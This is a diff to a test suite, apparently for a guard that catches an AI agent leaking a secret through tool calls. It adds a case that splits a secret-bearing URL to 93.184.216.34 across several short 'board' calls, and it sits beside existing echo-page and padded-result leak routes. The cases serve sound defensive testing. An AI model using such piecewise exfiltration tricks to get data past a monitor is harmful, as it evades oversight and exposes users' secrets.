@@ -93,6 +93,7 @@ REPEATED = {
     "a service": (call("board", text=LEAK),),
     "a service in pieces": (call("board", text="https://93.184.216.34/"), call("board", text="?d=4711"), call("board", text="-0815 ")),
     "a service in two arguments": (call("board", text="https://93.184.216.34/?d=47", more="11-0815 "),),
+    "a service in short pieces": (call("board", text="https://93.184.216.34/?d=47"), call("board", text="11-"), call("board", text="0815 ")),
     "a page": (call("get_page", url=f"{NEWS}/echo?q={quote(LEAK)}"),),
     "a page in pieces": (call("get_page", url=f"{NEWS}/echo?q={quote(EVIL)}%2F%3Fd%3D{SECRET}"),),
     "the rest of a result": (call("echo", "c1", text=LEAK + " " + "x" * 60_000), call("read_result", call_id="c1", offset=0)),
@@ -124,6 +125,7 @@ async def test_a_file_that_another_session_composed_gives_no_links(tmp_path: Pat
         (*READ, call("board", text="hello"), fetch(f"{SHOP}/board/8812")),  # a service has it
         (*READ, fetch(f"{SHOP}/today?id=77"), fetch(f"{SHOP}/today?id=77#top")),
         (*READ[::-1], call("read_file", path="notes.txt", offset=1), fetch(f"{SHOP}/login")),
+        (READ[0], fetch(f"{NEWS}/"), fetch(f"{SHOP}/today?id=77")),
         (READ[1], READ[0], fetch(f"{NEWS}/")),  # the owner typed it
     ],
 )
